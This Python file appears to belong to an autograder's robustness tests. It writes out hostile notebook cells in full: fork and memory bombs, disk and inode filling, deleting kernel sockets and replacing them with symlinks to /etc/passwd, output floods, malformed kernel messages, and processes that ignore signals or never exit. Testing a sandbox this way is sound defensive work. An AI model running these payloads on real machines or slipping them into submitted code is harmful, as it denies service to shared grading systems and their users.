"""Attacks on the machine: use up processes, memory, disk, time, or the readers' patience.

Each stands in a cell of its own before the third exercise of a notebook that is right:
whatever happens, the honest functions around it must keep their points.
"""

from __future__ import annotations

from nbformat.notebooknode import NotebookNode

from trial.attacks.corpus.desk import Desk, attack, before, everything, names


def bomb(desk: Desk, source: str) -> NotebookNode:
    """A right notebook with ``source`` before its third exercise."""
    return before(desk.solved(), f"{names()[2]}-code", source)


@attack(*everything())
def fork_bomb(desk: Desk) -> NotebookNode:
    """Every process makes two more."""
    return bomb(
        desk,
        """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    )


@attack(*everything())
def memory_bomb(desk: Desk) -> NotebookNode:
    """Sixty gigabytes in one process, and what several processes can hold together."""
    return bomb(
        desk,
        """
import os, time
try:
    x = bytearray(60 << 30)
except MemoryError:
    pass
for i in range(3):
    if os.fork() == 0:
        keep = [b"x" * (10 << 20) for _ in range(100)]
        time.sleep(60)
        os._exit(0)
time.sleep(60)
""",
    )


@attack(*everything())
def disk_filling(desk: Desk) -> NotebookNode:
    """Fills every folder in which it may write."""
    return bomb(
        desk,
        """
import os
block = b"x" * (1 << 20)
for folder in ("/box/home", "/tmp", "/dev/shm", "/var/tmp", "/box/out", "/", "/box"):
    for i in range(300):
        try:
            with open(f"{folder}/fill{i}", "wb") as file:
                file.write(block)
        except OSError as error:
            print(folder, i, error)
            break
""",
    )


@attack(*everything())
def kernel_folder_filling(desk: Desk) -> NotebookNode:
    """Fills the folder of the kernel's sockets, which lies on the machine's own disk."""
    return bomb(
        desk,
        """
import glob
folder = glob.glob("/tmp/*/run") + glob.glob("/tmp/*/*/run") + glob.glob("/*/*/*/*/run")
import json, os, sys
here = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
i = 0
while True:
    with open(f"{here}/fill{i}", "wb") as file:
        file.write(b"x" * (1 << 20))
    i += 1
""",
    )


@attack(*everything())
def kernel_folder_nested(desk: Desk) -> NotebookNode:
    """Nests folders deeper than a recursive function of the grader's can follow."""
    return bomb(
        desk,
        """
import os, sys
os.chdir(os.path.dirname(sys.argv[sys.argv.index("-f") + 1]))
for i in range(3000):
    os.mkdir("d")
    os.chdir("d")
os.chdir("/box/home")
""",
    )


@attack(*everything())
def kernel_folder_of_empty_files(desk: Desk) -> NotebookNode:
    """Makes empty files for ever in the folder of the kernel's sockets: no bytes, but inodes."""
    return bomb(
        desk,
        """
import os, sys
here = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
i = 0
while True:
    open(f"{here}/{i}", "wb").close()
    i += 1
""",
    )


@attack(*everything())
def sockets_of_the_kernel_removed(desk: Desk) -> NotebookNode:
    """Removes the kernel's sockets and its connection file, and puts links in their place."""
    return bomb(
        desk,
        """
import os, sys
here = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
for name in os.listdir(here):
    os.unlink(f"{here}/{name}")
    os.symlink("/etc/passwd", f"{here}/{name}")
""",
    )


@attack(*everything())
def open_files(desk: Desk) -> NotebookNode:
    """Opens files until no more can be opened, and closes them again."""
    return bomb(
        desk,
        """
import os
handles = []
try:
    while True:
        handles.append(os.open("/dev/null", os.O_RDONLY))
except OSError as error:
    print(error)
for handle in handles:
    os.close(handle)
""",
    )


@attack(*everything())
def fifty_megabytes_on_one_line(desk: Desk) -> NotebookNode:
    """Prints fifty megabytes without a line end."""
    return bomb(desk, 'print("x" * (50 << 20))')


@attack(*everything())
def endless_output(desk: Desk) -> NotebookNode:
    """Prints short lines for ever."""
    return bomb(desk, "while True:\n    print('flood')")


@attack(*everything())
def outputs_without_size(desk: Desk) -> NotebookNode:
    """Makes thousands of outputs that hold not a single character."""
    return bomb(
        desk,
        """
from IPython.display import display
for i in range(4000):
    display({"application/x-nothing": ""}, raw=True, metadata={"x": "y" * 1000})
""",
    )


@attack(*everything())
def alternating_streams(desk: Desk) -> NotebookNode:
    """Alternates between its two streams, so that every character is an output of its own."""
    return bomb(
        desk,
        """
import sys
for i in range(4000):
    print("o", end="", flush=True)
    print("e", end="", file=sys.stderr, flush=True)
""",
    )


@attack(*everything())
def many_talkative_cells(desk: Desk) -> NotebookNode:
    """Hundreds of cells, each of which prints as much as one cell may."""
    nb = desk.solved()
    for _ in range(200):
        before(nb, f"{names()[2]}-code", "print('x' * 99_000)")
    return nb


@attack(*everything())
def damaged_messages(desk: Desk) -> NotebookNode:
    """Sends messages to the grader whose parts are lists, numbers and nothing at all."""
    return bomb(
        desk,
        """
shell = get_ipython()
pub, parent = shell.display_pub, shell.parent_header
session, socket = pub.session, pub.pub_socket
odd = [None, [], 7, "text", {"execution_state": ["idle"]}, {"text": 3}, {"traceback": 3},
       {"data": 3, "metadata": 4},
       {"data": {"image/png": {"a": 1}, "text/plain": [1]}, "metadata": {}},
       {"ename": [], "evalue": {}, "traceback": [[], {}]}, {"name": [], "text": []}]
kinds = ("stream", "display_data", "execute_result", "error", "status", None, 5, [], "x" * 1000)
for kind in kinds:
    for content in odd:
        for head in (parent, [], None, 7, {"msg_id": []}, "x"):
            message = {"header": {"msg_type": kind, "msg_id": "x", "date": None}, "msg_id": "x",
                       "msg_type": kind, "parent_header": head, "metadata": {}, "content": content}
            try:
                socket.send_multipart(session.serialize(message, b"odd"))
            except Exception as error:
                last = error
socket.send_multipart([b"odd", b"<IDS|MSG>", b"", b"{", b"[", b"", b""])
socket.send_multipart([b""])
""",
    )


@attack(*everything(), least=16)
def stopped_process(desk: Desk) -> NotebookNode:
    """Stops its own process, so that it neither answers nor ends."""
    return bomb(desk, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")


@attack(*everything())
def exit_that_sleeps(desk: Desk) -> NotebookNode:
    """Registers functions that sleep at exit, and children that outlive their parents."""
    return bomb(
        desk,
        """
import atexit, os, time
atexit.register(time.sleep, 600)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            time.sleep(1)
    os._exit(0)
""",
    )


@attack(*everything())
def deaf_to_interrupts(desk: Desk) -> NotebookNode:
    """Ignores every signal that can be ignored, then never ends."""
    return bomb(
        desk,
        """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    )


@attack("sgd_momentum", "sgd_momentum_torch", "nesterov", "nesterov_lookahead")
def huge_result(desk: Desk) -> NotebookNode:
    """Returns an array of a terabyte that costs nothing to make, and one that does."""
    nb = desk.solved()
    from trial.attacks.corpus.desk import function

    return function(
        nb,
        "anneal_momentum",
        """
    import numpy as np
    huge = np.broadcast_to(np.zeros(1), (1 << 37,))
    return huge if step else np.zeros(100_000_000)
""",
    )
